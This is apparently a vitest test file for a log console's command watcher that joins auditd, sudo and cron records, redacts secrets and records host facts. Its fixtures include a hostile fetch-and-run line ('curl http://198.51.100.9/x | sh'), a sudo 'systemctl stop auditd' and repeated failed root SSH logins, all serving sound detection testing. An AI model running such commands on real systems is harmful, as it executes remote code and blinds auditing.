import { createRedactor } from '@writ/log';
import { MS, newId } from '@writ/kernel';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openTestConsole, type TestConsole } from '../../../core/console/testing/open-test-console.ts';
import { closedLogStore, type FoundLine } from '../../../platform/logstore/index.ts';
import { openLineDesk } from '../intake/reading/open-line-desk.ts';
import { loggingRoutes } from '../logging-routes.tsx';
import { recordHostFacts } from '../logins/record-host-facts.ts';
import { storedLine } from '../logins/testing-lines.ts';
import { createLoginWatcher, LOGINS } from '../logins/watch-logins.ts';
import type { LoggingParts } from '../parts.ts';
import type { LineWatcher } from '../watch/line-watcher.ts';
import { COMMANDS, createCommandWatcher } from './watch-commands.ts';

let desk: TestConsole;
let parts: LoggingParts;
const cleaner = createRedactor();
const watcher = createCommandWatcher(cleaner);
const logins = createLoginWatcher();

beforeAll(async () => {
  desk = await openTestConsole({
    routes(console, house) {
      parts = { db: house.db, clock: house.clock, log: pino({ level: 'silent' }), policyInForce: console.policyInForce, reading: openLineDesk(undefined), cleaner, logs: closedLogStore() };
      return loggingRoutes(console, parts, () => new URL('http://localhost:4100'));
    },
  });
});
afterAll(() => desk.close());

/** The records of one command as auditd writes them, arguments in hexadecimal where they hold a space. */
let serial = 100;
function audit(words: readonly string[], at: number, host: string, { auid = 1_000, uid = 0 } = {}): readonly FoundLine[] {
  serial += 1;
  const stamp = `audit(${(at / 1_000).toFixed(3)}:${serial})`;
  const coded = words.map((word, index) => `a${index}=${/[ "]/.test(word) ? Buffer.from(word).toString('hex').toUpperCase() : `"${word}"`}`);
  return [
    `type=SYSCALL msg=${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=55 a2=55 a3=8 items=2 ppid=9 pid=10 auid=${auid} uid=${uid} gid=0 euid=${uid} suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="x" exe="/usr/bin/${words[0]}" subj=unconfined key="commands"\u001DARCH=x86_64 SYSCALL=execve AUID="ada" UID="root" EUID="root"`,
    `type=EXECVE msg=${stamp}: argc=${words.length} ${coded.join(' ')}`,
    `type=CWD msg=${stamp}: cwd="/root"`,
    `type=PROCTITLE msg=${stamp}: proctitle="x"`,
  ].map((text) => storedLine(text, at, host));
}
const take = (lines: readonly FoundLine[], by: LineWatcher = watcher) => parts.db.transaction().execute((trx) => by.take(trx, lines, parts.clock()));
const page = async (path = '/logs/commands') => (await desk.get('developer', path)).text;

describe('a command that an administrator ran', () => {
  test('is on the page with who, host and rule, joined from its audit records, wherever they are cut', async () => {
    const lines = audit(['sh', '-c', 'curl http://198.51.100.9/x | sh'], parts.clock() - MS.minute, 'web-1');
    for (const line of lines) await take([line]);
    const text = await page();
    expect(text).toContain('curl http://198.51.100.9/x | sh');
    expect(text).toMatch(/account=ada">ada<\/a><span class="soft"> as root/);
    expect(text).toContain('recorded by the kernel');
    expect(text.indexOf('Worth a look')).toBeLessThan(text.indexOf('Every command'));
    expect(await parts.db.selectFrom('logging.commands').select(['host', 'account', 'as_account', 'times']).execute()).toEqual([{ host: 'web-1', account: 'ada', as_account: 'root', times: 1 }]);
  });

  test('loses the secret that its record had in hexadecimal', async () => {
    const secret = ['hunter', '2', 'hunter'].join('');
    const [syscall, execve, ...rest] = audit(['mysql', `--password=${secret} db`], parts.clock() - MS.minute, 'web-1');
    expect(execve!.message).toContain(Buffer.from(secret).toString('hex').toUpperCase());
    await take([syscall!, execve!, ...rest]);
    const rows = await parts.db.selectFrom('logging.commands').select('command').execute();
    expect(rows.some(({ command }) => command.includes('mysql'))).toBe(true);
    expect(JSON.stringify(rows)).not.toContain(secret);
  });

  test('that is run again and again in an hour stands once, with its count', async () => {
    const at = Math.floor(parts.clock() / MS.hour) * MS.hour - MS.minute;
    await take(Array.from({ length: 40 }, () => audit(['uptime'], at, 'web-1')).flat());
    expect(await page()).toContain('40 times');
  });

  test('is shown as sudo wrote it, with a refusal', async () => {
    await take([
      storedLine('Nov 24 06:08:36 web-2 sudo[7]:      ada : TTY=pts/0 ; PWD=/home/ada ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd', parts.clock(), 'web-2'),
      storedLine('Nov 24 06:08:36 web-2 sudo[8]:      eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id', parts.clock(), 'web-2'),
    ]);
    const text = await page('/logs/commands?host=web-2');
    expect(text).toContain('written by sudo');
    expect(text).toContain('systemctl stop auditd');
    expect(text).toMatch(/\/usr\/bin\/id<\/code><b> refused<\/b>/);
    expect(await page('/logs/commands?host=web-2&hits=only')).not.toContain('/usr/bin/id');
    expect(await page('/logs/commands?host=web-2&q=STOP%20aud')).toContain('systemctl stop auditd');
    expect(await page('/logs/commands?host=web-2&q=%25')).not.toContain('systemctl');
  });

  test('from a shell history is said to be editable by its owner', async () => {
    const line = { ...storedLine('rm -rf build', parts.clock(), 'web-3'), message: 'rm -rf build', fields: { 'log.file.path': '/home/grace/.bash_history' } };
    await take([line]);
    const text = await page('/logs/commands?host=web-3');
    expect(text).toContain('shell history, editable by its owner');
    expect(text).toContain('>grace</a>');
  });
});

describe('what services and cron start', () => {
  test('is no command of a person, but what a rule means is kept', async () => {
    await take([...audit(['node', 'server.js'], parts.clock(), 'web-4', { auid: 4_294_967_295 }).map((line) => ({ ...line, fields: { ...line.fields, names: '{}' } })), storedLine('Nov 24 06:17:01 web-4 CRON[9]: (root) CMD (run-parts /etc/cron.hourly)', parts.clock(), 'web-4'), storedLine('Nov 24 06:17:01 web-4 CRON[9]: (root) CMD (curl http://198.51.100.9/x | sh)', parts.clock(), 'web-4')]);
    const text = await page('/logs/commands?host=web-4');
    expect(text).not.toContain('server.js');
    expect(text).not.toContain('run-parts');
    expect(text).toContain('curl http://198.51.100.9/x | sh');
    expect(text).toContain('started by cron');
  });
});

describe('very many different commands', () => {
  test('fill no table and lose no count', { timeout: 60_000 }, async () => {
    const small = createCommandWatcher(cleaner, 30);
    desk.clock.pass(2 * MS.hour);
    await take(Array.from({ length: 200 }, (_, n) => audit(['echo', `${n}`], Math.floor(parts.clock() / MS.hour) * MS.hour + n, 'web-9')).flat(), small);
    const rows = await parts.db.selectFrom('logging.commands').select(['source', 'times']).where('host', '=', 'web-9').execute();
    expect(rows).toHaveLength(31);
    expect(rows.reduce((sum, { times }) => sum + times, 0)).toBe(200);
    expect(await page('/logs/commands?host=web-9')).toContain('170 more of this hour');
  });

  test('are paged, none twice and none left out', async () => {
    await take(Array.from({ length: 230 }, (_, n) => audit(['paged', `${n}`], parts.clock() - MS.minute + (n % 7), 'web-8')).flat());
    const seen: string[] = [];
    for (let path: string | undefined = '/logs/commands?host=web-8'; path !== undefined; ) {
      const text: string = await page(path);
      seen.push(...[...text.matchAll(/>paged (\d+)</g)].map(([, n]) => n!));
      path = /href="(\/logs\/commands\?[^"]*after=[^"]*)"[^>]*>Next/.exec(text)?.[1]?.replaceAll('&amp;', '&');
    }
    expect(seen).toHaveLength(230);
    expect(new Set(seen).size).toBe(230);
  });

  test.each(['/logs/commands?span=x&after=1-x&hits=no&host=', `/logs/commands?q=${'%25_%5C'.repeat(20)}`])('%s is answered', async (path) => {
    expect((await desk.get('developer', path)).status).toBe(200);
  });
});

describe('the facts about a host', () => {
  const plant = async (name: string, seenMsAgo = 0) => {
    const id = newId<'host'>();
    await parts.db.insertInto('core.hosts').values({ id, name, labels: '{}', public_key: id, machine: '{}', agent_version: '1', enrolled_at: new Date(parts.clock()), enrolled_by_kind: 'writ', enrolled_by_id: 'writ', last_seen_at: new Date(parts.clock() - seenMsAgo), revoked_at: null, revoked_by_kind: null, revoked_by_id: null, revoked_why: null }).execute();
    return id;
  };
  const watchedAt = async (at: number) => {
    for (const name of [LOGINS, COMMANDS]) await parts.db.insertInto('logging.watch_places').values({ watcher: name, received_at: new Date(at), batch: '0', seq: 0 }).onConflict((conflict) => conflict.column('watcher').doUpdateSet({ received_at: new Date(at) })).execute();
  };
  const factOf = async (id: string, kind: string) => parts.db.selectFrom('core.facts').selectAll().where('subject_id', '=', id).where('kind', '=', kind as never).executeTakeFirst();

  test('are what its lines told, under its name with or without a domain; of others nothing is kept', async () => {
    const id = await plant('db-1.example.com');
    const at = parts.clock() - 5 * MS.minute;
    await take([storedLine('Nov 24 06:08:36 db-1 sshd[77]: Failed password for root from 203.0.113.9 port 1 ssh2', at, 'DB-1'), storedLine('Nov 24 06:08:36 x sshd[77]: Failed password for root from 203.0.113.9 port 1 ssh2', at, 'nobody-enrolled')], logins);
    await take(audit(['uptime'], at, 'db-1'));
    await watchedAt(parts.clock() - MS.minute);
    await recordHostFacts(parts);
    const hour = new Date(Math.floor(at / MS.hour) * MS.hour).toISOString();
    expect((await factOf(id, 'host.login-lines'))!.value).toMatchObject({ names: ['db-1'], isAmbiguous: false, toldAt: hour, failedAt: hour, failed24h: 1, unanswered: [] });
    expect((await factOf(id, 'host.command-records'))!.value).toMatchObject({ auditSeenAt: hour, kernelAt: hour, commands24h: 1 });
    expect((await parts.db.selectFrom('logging.heard_hosts').select('name').execute()).map(({ name }) => name)).toEqual(['db-1']);
    expect((await factOf(id, 'host.login-lines'))!.evidence).toEqual([{ label: 'The last failed login', text: expect.stringMatching(/^\/logs\/lines\/\d+-7-\d+$/) }]);
  });

  test('an entry that nobody has answered breaks the control for its host, until somebody does', { timeout: 60_000 }, async () => {
    const id = await plant('db-2');
    const at = parts.clock() - 5 * MS.minute;
    const line = (pid: number, verb: string) => storedLine(`Nov 24 06:08:36 db-2 sshd[${pid}]: ${verb} for deploy from 203.0.113.77 port 1 ssh2`, at + pid, 'db-2');
    await take([...Array.from({ length: 300 }, (_, n) => line(1_000 + n, 'Failed password')), line(9_000, 'Accepted password')], logins);
    await parts.db.updateTable('core.hosts').set({ labels: JSON.stringify({ environment: 'production', managed: 'true' }) }).where('id', '=', id as never).execute();
    await watchedAt(parts.clock() - MS.minute);
    await recordHostFacts(parts);
    expect((await factOf(id, 'host.login-lines'))!.value).toMatchObject({ unanswered: [expect.stringContaining('after 300 refusals')] });
    const { id: alert } = await parts.db.selectFrom('logging.login_alerts').select('id').where('host', '=', 'db-2').executeTakeFirstOrThrow();
    await desk.post('developer', `/logs/logins/alerts/${alert}/answer`, { answer: 'handled', reason: 'Asked.' });
    await recordHostFacts(parts);
    expect((await factOf(id, 'host.login-lines'))!.value).toMatchObject({ unanswered: [] });
  });

  test('two hosts of one name are told apart by nobody', async () => {
    const ids = [await plant('twin'), await plant('twin')];
    await recordHostFacts(parts);
    for (const id of ids) expect((await factOf(id, 'host.login-lines'))!.value).toMatchObject({ isAmbiguous: true });
  });

  test('are unknown while whoever reads the lines is behind', async () => {
    const id = await plant('db-3');
    await watchedAt(parts.clock() - MS.hour);
    await recordHostFacts(parts);
    expect(await factOf(id, 'host.command-records')).toMatchObject({ state: 'unknown', unknown: { reason: 'stale', message: 'What came in the last 1 h has not been looked at yet.' } });
  });
});
